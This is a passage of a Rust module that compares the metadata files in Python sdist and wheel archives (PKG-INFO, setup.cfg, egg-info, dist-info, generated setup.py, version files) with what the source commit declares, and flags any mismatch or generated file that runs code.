//! Python packages: an sdist's `PKG-INFO`, `setup.cfg` and `*.egg-info/`, a wheel's
//! `*.dist-info/`, and the version files build tools write. Each is compared with what the
//! commit declares ([`declared`]).

mod configparser;
mod declared;
mod metadata;
mod pysource;
mod wheel;

use std::collections::{BTreeMap, BTreeSet};

pub(crate) use declared::Declared;
use declared::Known;

use super::{Field, Judgement, Rule, Rules, text};
use crate::contents::layout::Ecosystem;
use crate::contents::scan::{Entry, EntryKind};
use metadata::{CoreMetadata, Req};

/// Metadata files setuptools writes into `*.egg-info/` that are checked by their form.
const EGG_INFO_FORMS: &[&str] = &[
    "SOURCES.txt",
    "dependency_links.txt",
    "top_level.txt",
    "not-zip-safe",
    "zip-safe",
    "namespace_packages.txt",
];

/// `[egg_info]` keys setuptools writes into an sdist's `setup.cfg`.
const EGG_INFO_KEYS: &[&str] = &["tag_build", "tag_date", "tag_svn_revision"];

pub(super) fn explain(r: &Rules<'_>, rel: &str, entry: &Entry) -> Option<Judgement> {
    let parts: Vec<&str> = rel.split('/').collect();
    let file = *parts.last()?;
    let info_dir = |suffix: &str| -> Option<usize> {
        parts[..parts.len() - 1]
            .iter()
            .position(|p| p.ends_with(suffix))
    };
    match r.ecosystem {
        Ecosystem::PythonSdist => {
            if rel == "PKG-INFO" {
                return Some(core_metadata(r, entry));
            }
            if rel == "setup.cfg" {
                return Some(setup_cfg(r, entry));
            }
            if rel == "pyproject.toml" {
                return Some(resolved_pyproject(r, entry));
            }
            // Another backend than setuptools writes its own setup.py over any the commit has.
            let other_backend = !declared(r).backend.starts_with("setuptools");
            if rel == "setup.py" && (!r.git_has(rel) || other_backend) {
                return Some(generated_setup(r, entry));
            }
            // `NAME.egg-info/FILE`, at the root or one folder down (`src/NAME.egg-info/`).
            if let Some(at) = info_dir(".egg-info")
                && at + 2 == parts.len()
                && at <= 1
            {
                return match file {
                    "PKG-INFO" => Some(core_metadata(r, entry)),
                    "scm_version.json" | "scm_file_list.json" => Some(scm_metadata(r, file, entry)),
                    "requires.txt" => Some(requires_txt(r, entry)),
                    "entry_points.txt" => Some(entry_points(r, entry)),
                    f if EGG_INFO_FORMS.contains(&f) => Some(egg_info_form(r, f, entry)),
                    _ => None,
                };
            }
        }
        Ecosystem::PythonWheel => {
            if let Some(0) = info_dir(".dist-info") {
                let inner = &rel[parts[0].len() + 1..];
                return match inner {
                    "METADATA" => Some(core_metadata(r, entry)),
                    "WHEEL" => Some(wheel::wheel_file(r, entry)),
                    "RECORD" => Some(wheel::record(r, rel, entry)),
                    "entry_points.txt" => Some(entry_points(r, entry)),
                    "top_level.txt" => Some(egg_info_form(r, "top_level.txt", entry)),
                    "scm_version.json" | "scm_file_list.json" => {
                        Some(scm_metadata(r, inner, entry))
                    }
                    // A licence that is no copy of the commit's is unexplained like any file.
                    _ if inner.starts_with("licenses/") || super::is_readme_or_licence(file) => r
                        .copy_of(file, entry)
                        .map(|p| Judgement::from(Rule::CopiedReadmeOrLicence, p)),
                    _ => None,
                };
            }
        }
        _ => return None,
    }
    if file.ends_with(".py") && entry.kind == EntryKind::File {
        return version_file(r, rel, entry);
    }
    None
}

/// The Python readers on any bytes (for fuzzing), with the properties that hold for all of
/// them: a normalised version normalises to itself.
pub(super) fn fuzz(data: &[u8]) {
    let Ok(t) = std::str::from_utf8(data) else {
        return;
    };
    let _ = configparser::parse(t, &['=', ':']);
    let _ = declared::ini_entry_points(t);
    if let Ok(lines) = pysource::lines(t) {
        let _ = version_statements(&lines);
    }
    let _ = pysource::setup_call(t);
    let _ = pysource::assigned_string(t, "__version__");
    let meta = metadata::parse(t);
    for (_, v) in &meta.fields {
        let _ = metadata::parse_req(v, None);
        let once = metadata::normalise_version(v);
        assert_eq!(metadata::normalise_version(&once), once, "{v:?}");
    }
    let _ = wheel::csv_rows_for_fuzz(t);
    let _ = cfg_differences(t, t);
}

/// The project folder whose declarations describe the package: the package folder for an
/// sdist; for a wheel (whose files map into `src/` or the root), the nearest folder from there
/// up that declares a Python project.
fn project_dir(r: &Rules<'_>) -> String {
    if r.ecosystem == Ecosystem::PythonSdist {
        return r.source_prefix.to_owned();
    }
    super::enclosing_folders(r.source_prefix)
        .find(|dir| {
            ["pyproject.toml", "setup.py", "setup.cfg"]
                .iter()
                .any(|f| r.commit.entry(&format!("{dir}{f}")).is_some())
        })
        .unwrap_or_default()
}

fn declared<'r>(r: &'r Rules<'_>) -> &'r Declared {
    r.python
        .get_or_init(|| declared::derive(r, &project_dir(r)))
}

/// The judgement of a rule that read the commit's declarations.
fn judged<'r>(r: &'r Rules<'_>, rule: Rule) -> (Judgement, &'r Declared) {
    let d = declared(r);
    let mut j = Judgement::new(rule);
    for s in &d.sources {
        j.source(s.clone());
    }
    if d.sources.is_empty() {
        j.differ("the commit declares no Python project (pyproject.toml, setup.cfg or setup.py)");
    }
    (j, d)
}

fn read_text<'e>(j: &mut Judgement, entry: &'e Entry) -> Option<&'e str> {
    match entry.kept.as_deref().map(text) {
        Some(Some(t)) => Some(t),
        Some(None) => {
            j.differ("not UTF-8");
            None
        }
        None => {
            j.differ("too large to be read as metadata");
            None
        }
    }
}

/// `PKG-INFO` or `METADATA`: name, version, requirements, extras and `Requires-Python` as the
/// commit declares them.
fn core_metadata(r: &Rules<'_>, entry: &Entry) -> Judgement {
    let (mut j, d) = judged(r, Rule::PythonCoreMetadata);
    let Some(t) = read_text(&mut j, entry) else {
        return j;
    };
    let meta = metadata::parse(t);
    for field in ["Metadata-Version", "Name", "Version", "Requires-Python"] {
        if meta.all(field).len() > 1 {
            j.differ(format!(
                "{field} appears {} times; tools that read one may read another",
                meta.all(field).len()
            ));
        }
    }
    if meta.all("Metadata-Version").is_empty() {
        j.differ("no Metadata-Version: not core metadata");
    }
    match (meta.all("Name").first(), &d.name) {
        (None, _) => j.differ("no Name"),
        (Some(n), Known::Yes(want))
            if metadata::normalise_name(n) != metadata::normalise_name(want) =>
        {
            j.differ(format!("Name is {n}, the commit declares {want}"))
        }
        (Some(_), Known::No(why)) => j.unverified(Field::Name, why.clone()),
        _ => {}
    }
    match meta.all("Version").first() {
        None => j.differ("no Version"),
        Some(v) => check_version(r, &mut j, v, d),
    }
    let mut published = BTreeSet::new();
    for line in meta.all("Requires-Dist") {
        match metadata::parse_req(line, None) {
            Some(req) => {
                published.insert(req);
            }
            None => j.differ(format!("Requires-Dist `{line}` is not a requirement")),
        }
    }
    compare_reqs(&mut j, &published, &d.requires, "Requires-Dist");
    let extras: BTreeSet<String> = meta
        .all("Provides-Extra")
        .iter()
        .map(|e| metadata::normalise_name(e))
        .collect();
    match &d.extras {
        Known::Yes(want) => {
            for e in extras.difference(want) {
                j.differ(format!("Provides-Extra {e} is not declared"));
            }
            for e in want.difference(&extras) {
                j.differ(format!("declared extra {e} is missing"));
            }
        }
        Known::No(why) => j.unverified(Field::Dependencies, why.clone()),
    }
    let python = meta
        .all("Requires-Python")
        .first()
        .map(|s| metadata::normalise_specifiers(s));
    match &d.requires_python {
        Known::Yes(want)
            if *want != python && !(want.is_none() && python.as_deref() == Some("")) =>
        {
            j.differ(format!(
                "Requires-Python is {}, the commit declares {}",
                python.as_deref().unwrap_or("absent"),
                want.as_deref().unwrap_or("none")
            ))
        }
        Known::No(why) if python.is_some() => j.unverified(Field::RequiresPython, why.clone()),
        _ => {}
    }
    j
}

/// The published version against the declared one; a version the declarations cannot yield
/// is still verified when it is the commit's version tag.
fn check_version(r: &Rules<'_>, j: &mut Judgement, published: &str, d: &Declared) {
    let norm = metadata::normalise_version(published);
    match &d.version {
        Known::Yes(want) if metadata::normalise_version(want) == norm => {
            if let Some(from) = &d.version_from {
                j.note(format!("version {published}: {from}"));
            }
        }
        Known::Yes(want) => j.differ(format!(
            "Version is {published}, the commit declares {want}{}",
            d.version_from
                .as_ref()
                .map(|f| format!(" ({f})"))
                .unwrap_or_default()
        )),
        Known::No(why) => {
            let tag = r
                .tag_versions()
                .into_iter()
                .find(|t| metadata::normalise_version(t) == norm);
            match tag {
                Some(t) => j.note(format!(
                    "version {published} is the commit's version tag {t} ({why})"
                )),
                None => j.unverified(Field::Version, why.clone()),
            }
        }
    }
}

fn compare_reqs(
    j: &mut Judgement,
    published: &BTreeSet<Req>,
    want: &Known<BTreeSet<Req>>,
    what: &str,
) {
    match want {
        Known::Yes(want) => {
            for r in published.difference(want) {
                j.differ(format!("{what} `{r}` is not declared by the commit"));
            }
            for r in want.difference(published) {
                j.differ(format!("declared requirement `{r}` is missing"));
            }
        }
        Known::No(why) => j.unverified(Field::Dependencies, why.clone()),
    }
}

fn compare_entry_points(
    j: &mut Judgement,
    got: &BTreeSet<declared::EntryPoint>,
    want: &BTreeSet<declared::EntryPoint>,
) {
    for (g, n, o) in got.difference(want) {
        j.differ(format!(
            "entry point {n} = {o} in [{g}] is not declared by the commit"
        ));
    }
    for (g, n, o) in want.difference(got) {
        j.differ(format!(
            "declared entry point {n} = {o} in [{g}] is missing"
        ));
    }
}

/// `.egg-info/requires.txt`: requirements, then `[extra]` / `[extra:marker]` / `[:marker]`
/// sections.
fn requires_txt(r: &Rules<'_>, entry: &Entry) -> Judgement {
    let (mut j, d) = judged(r, Rule::PythonRequirements);
    let Some(t) = read_text(&mut j, entry) else {
        return j;
    };
    let mut published = BTreeSet::new();
    let (mut extra, mut marker): (Option<String>, Option<String>) = (None, None);
    for line in t.lines().map(str::trim).filter(|l| !l.is_empty()) {
        if let Some(section) = line.strip_prefix('[').and_then(|l| l.strip_suffix(']')) {
            let (e, m) = match section.split_once(':') {
                Some((e, m)) => (e, Some(m.to_owned())),
                None => (section, None),
            };
            extra = (!e.is_empty()).then(|| e.to_owned());
            marker = m;
            continue;
        }
        let full = match &marker {
            Some(m) if !line.contains(';') => format!("{line}; {m}"),
            _ => line.to_owned(),
        };
        match metadata::parse_req(&full, extra.as_deref()) {
            Some(req) => {
                published.insert(req);
            }
            None => j.differ(format!("`{line}` is not a requirement")),
        }
    }
    compare_reqs(&mut j, &published, &d.requires, "requirement");
    j
}

/// `entry_points.txt` (egg-info or dist-info): every group, name and object declared.
fn entry_points(r: &Rules<'_>, entry: &Entry) -> Judgement {
    let (mut j, d) = judged(r, Rule::PythonEntryPoints);
    let Some(t) = read_text(&mut j, entry) else {
        return j;
    };
    let published = match declared::ini_entry_points(t) {
        Known::Yes(p) => p,
        Known::No(why) => {
            j.differ(why);
            return j;
        }
    };
    match &d.entry_points {
        Known::Yes(want) => compare_entry_points(&mut j, &published, want),
        Known::No(why) => j.unverified(Field::EntryPoints, why.clone()),
    }
    j
}

/// The bookkeeping files of `.egg-info/`, by their form.
fn egg_info_form(r: &Rules<'_>, file: &str, entry: &Entry) -> Judgement {
    let rule = if r.ecosystem == Ecosystem::PythonWheel {
        Rule::PythonCoreMetadata
    } else {
        Rule::PythonEggInfo
    };
    let mut j = Judgement::new(rule);
    let Some(t) = read_text(&mut j, entry) else {
        return j;
    };
    let lines = t.lines().map(str::trim).filter(|l| !l.is_empty());
    match file {
        "SOURCES.txt" => {
            for l in lines {
                let listed = r.by_rel.contains_key(l) || r.git_has(l);
                if !listed {
                    j.differ(format!(
                        "lists {l}, which is neither in the archive nor the commit"
                    ));
                }
            }
        }
        "top_level.txt" | "namespace_packages.txt" => {
            for l in lines {
                let module = l.split(['.', '/']).all(|p| {
                    !p.is_empty()
                        && p.chars().all(|c| c == '_' || c.is_alphanumeric())
                        && !p.starts_with(|c: char| c.is_ascii_digit())
                });
                if !module {
                    j.differ(format!("`{l}` is not a module name"));
                }
            }
        }
        _ => {
            if let Some(l) = lines.into_iter().next() {
                j.differ(format!("holds `{l}`, where setuptools writes nothing"));
            }
        }
    }
    j
}

/// setuptools-scm's records: the version it derived (naming the compared commit), and the
/// files git tracks.
fn scm_metadata(r: &Rules<'_>, file: &str, entry: &Entry) -> Judgement {
    let mut j = Judgement::new(Rule::ScmMetadata);
    let value = match entry.kept.as_deref().map(crate::contents::json::strict) {
        Some(Ok(serde_json::Value::Object(m))) => m,
        _ => {
            j.differ("not a JSON object");
            return j;
        }
    };
    if file == "scm_file_list.json" {
        let project = project_dir(r);
        for (k, v) in &value {
            if k != "files" {
                j.differ(format!("key `{k}` is not what setuptools-scm writes"));
                continue;
            }
            for f in v.as_array().into_iter().flatten() {
                let Some(f) = f.as_str() else {
                    j.differ("a listed file is not a string");
                    continue;
                };
                let known =
                    r.by_rel.contains_key(f) || r.commit.entry(&format!("{project}{f}")).is_some();
                if !known {
                    j.differ(format!(
                        "lists {f}, which is neither in the commit nor the archive"
                    ));
                }
            }
        }
        return j;
    }
    let commit = r.commit.commit.hex();
    for (k, v) in &value {
        let ok = match k.as_str() {
            "tag" | "branch" | "node_date" => v.is_string() || v.is_null(),
            "distance" => v.is_u64(),
            "dirty" => v == &serde_json::Value::Bool(false),
            "node" => v.as_str().is_some_and(|n| {
                let hex = n.strip_prefix('g').unwrap_or(n);
                hex.len() >= 7 && commit.starts_with(hex)
            }),
            _ => false,
        };
        if !ok {
            j.differ(format!(
                "{k} = {v} is not what setuptools-scm writes for the compared commit"
            ));
        }
    }
    if value.get("distance").and_then(serde_json::Value::as_u64) == Some(0)
        && let (Some(tag), Some(version)) = (
            value.get("tag").and_then(serde_json::Value::as_str),
            package_version(r),
        )
        && metadata::normalise_version(tag) != metadata::normalise_version(&version)
    {
        j.differ(format!("tag {tag}, the package's metadata says {version}"));
    }
    j
}

/// An sdist's `pyproject.toml` whose dynamic version a backend wrote in: the commit's settings
/// as TOML, apart from `version` moved out of `dynamic` into `[project]`.
fn resolved_pyproject(r: &Rules<'_>, entry: &Entry) -> Judgement {
    let (mut j, d) = judged(r, Rule::PythonResolvedPyproject);
    let parse = |bytes: &[u8]| text(bytes).and_then(|t| toml::from_str::<toml::Table>(t).ok());
    let Some(mut theirs) = entry.kept.as_deref().and_then(parse) else {
        j.differ("not a TOML file");
        return j;
    };
    let Some(ours) = r.git_file("pyproject.toml").and_then(|(_, b)| parse(&b)) else {
        j.differ("the commit has no pyproject.toml that reads as TOML");
        return j;
    };
    let project = theirs
        .get_mut("project")
        .and_then(toml::Value::as_table_mut);
    let version = project
        .as_ref()
        .and_then(|p| p.get("version"))
        .and_then(toml::Value::as_str)
        .map(str::to_owned);
    let declared_dynamic = ours
        .get("project")
        .and_then(|p| p.get("dynamic"))
        .and_then(toml::Value::as_array)
        .is_some_and(|a| a.iter().any(|v| v.as_str() == Some("version")));
    if let (Some(project), Some(_), true) = (project, &version, declared_dynamic) {
        // Undo what the backend did: version back into dynamic, the static value out.
        project.remove("version");
        let ours_dynamic = ours["project"]["dynamic"].clone();
        project.insert("dynamic".into(), ours_dynamic);
    }
    if theirs != ours {
        j.differ("its settings are not the commit's pyproject.toml apart from a resolved version");
        return j;
    }
    match version {
        Some(v) if declared_dynamic => check_version(r, &mut j, &v, d),
        _ => j.differ("differs from the commit's pyproject.toml as text only, yet was rewritten"),
    }
    j
}

/// setup() arguments a generated `setup.py` may pass: metadata and the files to install.
const SETUP_ARGS: &[&str] = &[
    "name",
    "version",
    "description",
    "long_description",
    "long_description_content_type",
    "author",
    "author_email",
    "maintainer",
    "maintainer_email",
    "url",
    "license",
    "classifiers",
    "keywords",
    "project_urls",
    "platforms",
    "packages",
    "package_dir",
    "package_data",
    "py_modules",
    "install_requires",
    "extras_require",
    "entry_points",
    "python_requires",
    "include_package_data",
    "zip_safe",
];

/// A `setup.py` a backend generated: literals and one setup() call, passing what the commit
/// declares.
fn generated_setup(r: &Rules<'_>, entry: &Entry) -> Judgement {
    use pysource::{Lit, Tok};
    let (mut j, d) = judged(r, Rule::PythonGeneratedSetup);
    let Some(source) = read_text(&mut j, entry) else {
        return j;
    };
    let lines = match pysource::lines(source) {
        Ok(l) => l,
        Err(e) => {
            j.differ(format!("cannot be read as Python without running it: {e}"));
            return j;
        }
    };
    let mut env: BTreeMap<String, Lit> = BTreeMap::new();
    let mut kwargs: Option<BTreeMap<String, Lit>> = None;
    for (n, line) in lines.iter().enumerate() {
        let toks = line.tokens();
        let words = line.words();
        let runs_code = || line.runs_code(n);
        if matches!(toks[..], [Tok::Str(Some(_))])
            || words[..] == ["from", "setuptools", "import", "setup"]
            || words[..] == ["from", "distutils", ".", "core", "import", "setup"]
        {
            continue;
        }
        match &toks[..] {
            [Tok::Name(name), Tok::Op(eq), ..] if eq == "=" => {
                match pysource::literal_in(&toks, 2, &env) {
                    Some((value, end)) if end == toks.len() => {
                        env.insert(name.clone(), value);
                    }
                    _ => {
                        j.differ(runs_code());
                        return j;
                    }
                }
            }
            [
                Tok::Name(setup),
                Tok::Op(open),
                Tok::Op(star),
                Tok::Name(name),
                Tok::Op(close),
            ] if setup == "setup"
                && open == "("
                && star == "**"
                && close == ")"
                && kwargs.is_none() =>
            {
                let Some(Lit::Dict(items)) = env.get(name) else {
                    j.differ(format!("setup(**{name}) with {name} no literal dict"));
                    return j;
                };
                let mut args = BTreeMap::new();
                for (k, v) in items {
                    match k.as_str() {
                        Some(k) => {
                            args.insert(k.to_owned(), v.clone());
                        }
                        None => {
                            j.differ(format!("{name} has a key that is not a string"));
                            return j;
                        }
                    }
                }
                kwargs = Some(args);
            }
            [Tok::Name(setup), Tok::Op(open), ..]
                if setup == "setup" && open == "(" && kwargs.is_none() =>
            {
                let mut args = BTreeMap::new();
                let mut i = 2;
                while i < toks.len() {
                    match (&toks[i], toks.get(i + 1)) {
                        (Tok::Op(c), _) if c == ")" && i + 1 == toks.len() => break,
                        (Tok::Name(k), Some(Tok::Op(eq))) if eq == "=" => {
                            let Some((v, end)) = pysource::literal_in(&toks, i + 2, &env) else {
                                j.differ(format!("setup() argument {k} runs code"));
                                return j;
                            };
                            args.insert(k.clone(), v);
                            i = end;
                            if matches!(toks.get(i), Some(Tok::Op(c)) if c == ",") {
                                i += 1;
                            }
                        }
                        _ => {
                            j.differ(runs_code());
                            return j;
                        }
                    }
                }
                kwargs = Some(args);
            }
            _ => {
                j.differ(runs_code());
                return j;
            }
        }
    }
    let Some(args) = kwargs else {
        j.differ("calls no setup()");
        return j;
    };
    for k in args.keys().filter(|k| !SETUP_ARGS.contains(&k.as_str())) {
        j.differ(format!(
            "passes setup() {k}, which a generated setup.py does not"
        ));
    }
    match (args.get("name").and_then(Lit::as_str), &d.name) {
        (Some(n), Known::Yes(want))
            if metadata::normalise_name(n) != metadata::normalise_name(want) =>
        {
            j.differ(format!("name {n}, the commit declares {want}"))
        }
        (None, _) => j.differ("passes no name"),
        _ => {}
    }
    match args.get("version").and_then(Lit::as_str) {
        Some(v) => check_version(r, &mut j, v, d),
        None => j.differ("passes no version"),
    }
    let mut reqs: Known<BTreeSet<Req>> = match args.get("install_requires") {
        Some(l) => declared::lit_lines(l).and_then_reqs(),
        None => Known::Yes(BTreeSet::new()),
    };
    if let Some(extras) = args.get("extras_require") {
        match declared::lit_groups(extras) {
            Ok(groups) => declared::merge(&mut reqs, declared::group_requirements(groups).0),
            Err(e) => reqs = Known::No(e),
        }
    }
    match reqs {
        Known::Yes(published) => compare_reqs(&mut j, &published, &d.requires, "requirement"),
        Known::No(why) => j.differ(format!("its requirements cannot be read: {why}")),
    }
    let python = args
        .get("python_requires")
        .and_then(Lit::as_str)
        .map(metadata::normalise_specifiers);
    if let Known::Yes(want) = &d.requires_python
        && *want != python
    {
        j.differ(format!(
            "python_requires {}, the commit declares {}",
            python.as_deref().unwrap_or("none"),
            want.as_deref().unwrap_or("none")
        ));
    }
    let eps = args
        .get("entry_points")
        .map(declared::lit_entry_points)
        .unwrap_or(Known::Yes(BTreeSet::new()));
    match (eps, &d.entry_points) {
        (Known::Yes(got), Known::Yes(want)) => compare_entry_points(&mut j, &got, want),
        (Known::No(why), _) => j.differ(format!("its entry points cannot be read: {why}")),
        (_, Known::No(why)) => j.unverified(Field::EntryPoints, why.clone()),
    }
    j
}

/// An sdist's `setup.cfg`: the commit's settings, read as configparser reads them, plus
/// setuptools' `[egg_info]` tags.
fn setup_cfg(r: &Rules<'_>, entry: &Entry) -> Judgement {
    let mut j = Judgement::new(Rule::SetuptoolsEggInfoSection);
    let Some(theirs) = read_text(&mut j, entry) else {
        return j;
    };
    let ours = match r.git_file("setup.cfg") {
        Some((path, bytes)) => {
            j.source(path);
            match text(&bytes) {
                Some(t) => t.to_owned(),
                None => {
                    j.differ("the commit's setup.cfg is not UTF-8");
                    return j;
                }
            }
        }
        None => String::new(),
    };
    for d in cfg_differences(&ours, theirs) {
        j.differ(d);
    }
    j
}

/// How two `setup.cfg` files differ in what configparser reads, apart from the egg_info tags.
fn cfg_differences(ours: &str, theirs: &str) -> Vec<String> {
    let theirs = match configparser::parse(theirs, &['=', ':']) {
        Ok(i) => i,
        Err(e) => return vec![format!("configparser rejects it: {e}")],
    };
    let ours = match configparser::parse(ours, &['=', ':']) {
        Ok(i) => i,
        Err(e) => return vec![format!("configparser rejects the commit's setup.cfg: {e}")],
    };
    type Settings = BTreeMap<String, BTreeMap<String, String>>;
    let mut collisions = Vec::new();
    // Older setuptools rewrote the file with configparser's default, lowercased option names;
    // names are compared lowercased, except entry point groups, whose case is their meaning.
    let mut fold = |section: &str, options: &[(String, String)]| -> BTreeMap<String, String> {
        let mut out = BTreeMap::new();
        for (k, v) in options {
            let key = if section == "options.entry_points" {
                k.clone()
            } else {
                k.to_lowercase()
            };
            if out.insert(key, v.clone()).is_some() {
                collisions.push(format!(
                    "[{section}] has option {k} twice when names are lowercased"
                ));
            }
        }
        out
    };
    let mut settings = |ini: &configparser::Ini| -> Settings {
        let mut out: Settings = BTreeMap::new();
        out.insert("DEFAULT".into(), fold("DEFAULT", &ini.defaults));
        for s in &ini.sections {
            let mut options = fold(&s.name, &s.options);
            if s.name == "egg_info" {
                options.retain(|k, _| !EGG_INFO_KEYS.contains(&k.as_str()));
                if options.is_empty() {
                    continue;
                }
            }
            out.insert(s.name.clone(), options);
        }
        out
    };
    let (a, b) = (settings(&ours), settings(&theirs));
    let mut out = collisions;
    for (name, options) in &b {
        match a.get(name) {
            None if name == "DEFAULT" && options.is_empty() => {}
            None => out.push(format!("section [{name}] is not in the commit's setup.cfg")),
            Some(theirs) => {
                for (k, v) in options {
                    match theirs.get(k) {
                        None => out.push(format!("[{name}] {k} is not in the commit's setup.cfg")),
                        Some(w) if w != v => {
                            out.push(format!("[{name}] {k} is {v:?}, the commit's is {w:?}"))
                        }
                        _ => {}
                    }
                }
                for k in theirs.keys().filter(|k| !options.contains_key(*k)) {
                    out.push(format!("[{name}] {k} from the commit is missing"));
                }
            }
        }
    }
    for name in a.keys().filter(|n| !b.contains_key(*n)) {
        if name != "DEFAULT" || !a[name].is_empty() {
            out.push(format!("section [{name}] from the commit is missing"));
        }
    }
    out
}

/// The package's own version: `PKG-INFO` of an sdist, `METADATA` of a wheel.
fn package_version(r: &Rules<'_>) -> Option<String> {
    let bytes = match r.ecosystem {
        Ecosystem::PythonSdist => r.archive_bytes("PKG-INFO")?,
        _ => {
            let mut found = r
                .by_rel
                .keys()
                .filter(|k| k.ends_with(".dist-info/METADATA") && k.matches('/').count() == 1);
            let only = found.next()?;
            if found.next().is_some() {
                return None;
            }
            r.archive_bytes(only)?
        }
    };
    let meta: CoreMetadata = metadata::parse(text(bytes)?);
    let versions = meta.all("Version");
    match versions[..] {
        [v] => Some(v.to_owned()),
        _ => None,
    }
}

/// A Python file a build tool wrote to carry the version, or versioneer's rewritten one.
fn version_file(r: &Rules<'_>, rel: &str, entry: &Entry) -> Option<Judgement> {
    let source = entry.kept.as_deref().and_then(text)?;
    let in_git = r.git_has(rel);
    if source
        .trim_start_matches('\n')
        .starts_with("# This file was generated by 'versioneer.py'")
    {
        return Some(versioneer(r, source));
    }
    if in_git {
        return substituted_version(r, rel, source);
    }
    let statements = match pysource::lines(source) {
        Ok(l) => l,
        Err(_) => return None,
    };
    let versions = match version_statements(&statements) {
        Ok(v) if !v.is_empty() => v,
        // Not a version file at all: left to the other classes.
        Ok(_) => return None,
        Err(why) => {
            let looks_generated = source.contains("version");
            return looks_generated.then(|| Judgement::differs(Rule::PythonVersionFile, why));
        }
    };
    let mut j = Judgement::new(Rule::PythonVersionFile);
    let Some(package) = package_version(r) else {
        j.differ("the package's own metadata has no single Version to compare with");
        return Some(j);
    };
    j.source("the package's metadata");
    for v in versions {
        if metadata::normalise_version(&v) != metadata::normalise_version(&package) {
            j.differ(format!(
                "holds version {v}, the package's metadata says {package}"
            ));
        }
    }
    Some(j)
}

/// `NAME = "VALUE"` for the names a version goes by, with the value (group 3) a plain string.
const VERSION_ASSIGNMENT: &str =
    r#"^(\s*(?:__version__|version|VERSION)\s*(?::\s*str\s*)?=\s*)(['"])([^'"\\]*)(['"])\s*$"#;

/// A file of the commit in which a build tool (poetry-dynamic-versioning, a release script)
/// wrote the package's version over a placeholder: every line that differs is the same
/// `__version__ = "..."` assignment with the package's version as its value.
fn substituted_version(r: &Rules<'_>, rel: &str, source: &str) -> Option<Judgement> {
    let (path, bytes) = r.git_file(rel)?;
    let ours = text(&bytes)?;
    let (a, b): (Vec<&str>, Vec<&str>) = (ours.lines().collect(), source.lines().collect());
    if a.len() != b.len() {
        return None;
    }
    let assignment = regex::Regex::new(VERSION_ASSIGNMENT).expect("the pattern is valid");
    let changed: Vec<(&str, &str)> = a
        .iter()
        .zip(&b)
        .filter(|(x, y)| x != y)
        .map(|(x, y)| (*x, *y))
        .collect();
    let mut values = Vec::new();
    for (x, y) in &changed {
        let (cx, cy) = (assignment.captures(x)?, assignment.captures(y)?);
        let same_shape = cx[1] == cy[1] && cx[2] == cy[2] && cx[4] == cy[4] && cx[2] == cx[4];
        if !same_shape {
            return None;
        }
        values.push(cy[3].to_owned());
    }
    if values.is_empty() {
        return None;
    }
    let mut j = Judgement::from(Rule::PythonVersionFile, path);
    match package_version(r) {
        Some(v) => {
            for value in values {
                if metadata::normalise_version(&value) != metadata::normalise_version(&v) {
                    j.differ(format!(
                        "writes version {value}, the package's metadata says {v}"
                    ));
                }
            }
        }
        None => j.differ("the package's own metadata has no single Version to compare with"),
    }
    Some(j)
}

/// The version strings a version file assigns, or why it is more than a version file.
fn version_statements(lines: &[pysource::Line]) -> Result<Vec<String>, String> {
    use pysource::Tok;
    const NAMES: &[&str] = &[
        "True",
        "False",
        "None",
        "object",
        "str",
        "int",
        "tuple",
        "Tuple",
        "Union",
        "Optional",
        "List",
        "Any",
        "typing",
        "VERSION_TUPLE",
        "COMMIT_ID",
        "TYPE_CHECKING",
    ];
    const OPS: &[&str] = &["[", "]", "(", ")", ",", "...", "|", "."];
    let mut versions = Vec::new();
    for (n, line) in lines.iter().enumerate() {
        let toks = line.tokens();
        let words = line.words();
        let why = || line.runs_code(n);
        // Docstrings and comments.
        if matches!(toks[..], [Tok::Str(Some(_))]) {
            continue;
        }
        // Imports of type names only.
        if words.first() == Some(&"from") && matches!(words.get(1), Some(&"typing" | &"__future__"))
        {
            if words.get(2) != Some(&"import") {
                return Err(why());
            }
            let names_ok = toks[3..].iter().all(|t| match t {
                Tok::Name(_) => true,
                Tok::Op(o) => matches!(o.as_str(), "," | "(" | ")"),
                _ => false,
            });
            if !names_ok {
                return Err(why());
            }
            continue;
        }
        if words[..] == ["import", "typing"]
            || words[..] == ["if", "TYPE_CHECKING", ":"]
            || words[..] == ["if", "typing", ".", "TYPE_CHECKING", ":"]
            || words[..] == ["else", ":"]
        {
            continue;
        }
        // Assignments and annotations: NAME [: TYPE] (= NAME)* = VALUE.
        let safe = |part: &[&Tok]| -> bool {
            part.iter().enumerate().all(|(i, t)| match t {
                Tok::Str(Some(_)) | Tok::Number(_) => true,
                Tok::Name(n) => NAMES.contains(&n.as_str()),
                Tok::Op(o) if o == "(" => {
                    // A call is a name, a subscript or a parenthesis followed by `(`.
                    i == 0
                        || !matches!(part[i - 1], Tok::Name(_) | Tok::Str(_))
                            && !matches!(part[i - 1], Tok::Op(p) if p == ")" || p == "]")
                }
                Tok::Op(o) => OPS.contains(&o.as_str()) || o == "-",
                _ => false,
            })
        };
        let segments: Vec<&[&Tok]> = toks.split(|t| **t == Tok::Op("=".into())).collect();
        let (targets, value) = segments.split_at(segments.len() - 1);
        let value = value[0];
        let mut names = Vec::new();
        if targets.is_empty() {
            // A bare annotation: NAME : TYPE.
            match value {
                [Tok::Name(n), Tok::Op(c), ty @ ..] if c == ":" && safe(ty) => {
                    let _ = n;
                    continue;
                }
                _ => return Err(why()),
            }
        }
        for (i, t) in targets.iter().enumerate() {
            match t {
                [Tok::Name(n)] => names.push(n.as_str()),
                [Tok::Name(n), Tok::Op(c), ty @ ..] if i == 0 && c == ":" && safe(ty) => {
                    names.push(n.as_str())
                }
                _ => return Err(why()),
            }
        }
        if !safe(value) {
            return Err(why());
        }
        if names.iter().any(|n| *n == "version" || *n == "__version__") {
            match value {
                [Tok::Str(Some(v))] => versions.push(v.clone()),
                _ => {
                    return Err(format!(
                        "statement {} assigns a version that is not a string",
                        n + 1
                    ));
                }
            }
        }
    }
    Ok(versions)
}

/// versioneer's short `_version.py`: its template exactly, with the package's version and the
/// compared commit.
fn versioneer(r: &Rules<'_>, source: &str) -> Judgement {
    let rule = Rule::VersioneerVersionFile;
    let re = regex::Regex::new(
        r"^\n?# This file was generated by 'versioneer\.py' \([0-9A-Za-z.+_-]+\) from\n# revision-control system data, or from the parent directory name of an\n# unpacked source archive\. Distribution tarballs contain a pre-generated copy\n# of this file\.\n\nimport json\n\nversion_json = '''\n(?s)(?P<json>[^\\']*?)\n'''  # END VERSION_JSON\n\n\ndef get_versions\(\):\n    return json\.loads\(version_json\)\n\z",
    )
    .expect("the template pattern is valid");
    let Some(json) = re.captures(source).and_then(|c| c.name("json")) else {
        return Judgement::differs(rule, "not exactly versioneer's template");
    };
